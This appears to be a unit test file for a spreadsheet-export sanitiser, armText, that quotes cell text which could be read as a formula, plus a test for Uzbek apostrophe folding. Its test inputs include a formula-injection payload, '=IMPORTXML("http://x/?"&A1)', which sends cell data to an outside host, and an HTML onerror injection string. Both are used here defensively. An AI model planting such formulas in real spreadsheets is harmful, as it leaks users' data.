// Text that would become something else in a cell is armed.

import fc from 'fast-check';
import { armText } from '../../../src/kernel/text/arm';
import { fold } from '../../../src/kernel/text/fold';

describe('armText', () => {
  it.each(['Aziz Karimov', 'Toʻrayeva', 'Нодира', 'e-mail, keyin', 'Oʻzi keldi', ''])('leaves %j as it is', (text) => {
    expect(armText(text)).toBe(text);
  });

  it.each([
    '=IMPORTXML("http://x/?"&A1)',
    '+998 90 123 45 67',
    '-5',
    '@aziz',
    '＝1+1',
    '\t=1+1',
    '\r=1+1',
    ' =1+1',
    "'armed",
    '007',
    '10%',
    '01.03.2026',
    '5 mart',
    'mart 5',
    '12:30',
    'TRUE',
    'ИСТИНА',
    '<img src=x onerror=1>',
    '"quoted"',
  ])('arms %j', (text) => {
    expect(armText(text)).toBe(`'${text}`);
  });

  it('never lets a text begin with a sign that starts a formula', () => {
    fc.assert(fc.property(fc.string(), (text) => !/^[\s=+\-@＝＋－＠]/.test(armText(text)) || armText(text) === ''));
  });
});

describe('fold', () => {
  it('takes all apostrophes of Uzbek for one', () => {
    expect(new Set(["to'lov", 'toʻlov', 'To‘lov', 'TO’LOV', 'to`lov'].map(fold))).toEqual(new Set(["to'lov"]));
  });
});
